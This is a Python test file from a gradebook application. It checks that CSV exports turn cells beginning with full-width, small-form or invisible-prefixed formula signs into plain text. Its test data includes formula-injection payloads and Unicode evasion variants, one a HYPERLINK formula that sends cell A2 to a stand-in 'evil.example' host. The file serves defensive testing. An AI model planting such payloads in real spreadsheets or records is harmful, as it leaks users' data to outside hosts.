"""Round 26: a formula sign in any Unicode form, or behind an invisible character, is made text in a CSV.

Round 24's writer (app/gradebook._safe_cell) looked for the ASCII = + - @ after spaces. A name typed with a
Chinese or Japanese input method gives the full-width ＝＋－＠ (CJK spreadsheets turn ＝ into = as the cell
is entered), and a zero-width space or a BOM in front of = hid the sign from the check: those cells went
out as they were typed."""

from __future__ import annotations

import csv
import io

import pytest

from app.extensions import db
from app.gradebook import excel_csv
from tests.web.helpers import realistic_result


def cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


@pytest.mark.parametrize("value", [
    "＝HYPERLINK(\"http://evil.example\")", "＋1+1", "－2+3", "＠SUM(A1)",    # full-width (input methods)
    "﹦1+1", "﹢1", "﹣1",                                                     # small forms
    "\u200b=1+1", "\ufeff=1+1", "\u2060@cmd", "\u00a0=1+1",                  # invisible or no-break in front
    " \u3000＝1+1",
])
def test_a_formula_sign_in_any_unicode_form_or_behind_an_invisible_character_is_made_text(value):
    (cell,) = cells(excel_csv([[value]]))
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["王小明", "3 − 2", "\u2212 5", "— note", "Ｌｉ Ｌｅｉ", "\u200bAlice", "a＝b"])
def test_text_whose_first_visible_character_is_not_a_formula_sign_is_left_as_it_is(value):
    assert cells(excel_csv([[value]])) == [value]


def test_a_student_named_with_a_full_width_formula_reaches_every_export_as_text(client, web, course):
    alice = course["alice"]
    alice.name = "＝HYPERLINK(\"http://evil.example/?\"&A2,\"成绩\")"
    db.session.commit()
    web.grade(web.submit(alice, course["assignment"]), realistic_result())
    web.login(client, course["teacher"])
    for fmt in ("csv", "canvas", "moodle"):
        resp = client.get(f"/instructor/gradebook.csv?a={course['assignment'].slug}&format={fmt}")
        assert resp.status_code == 200
        named = [c for c in cells(resp.data) if "HYPERLINK" in c]
        assert named and all(c.startswith("'") for c in named), (fmt, named)
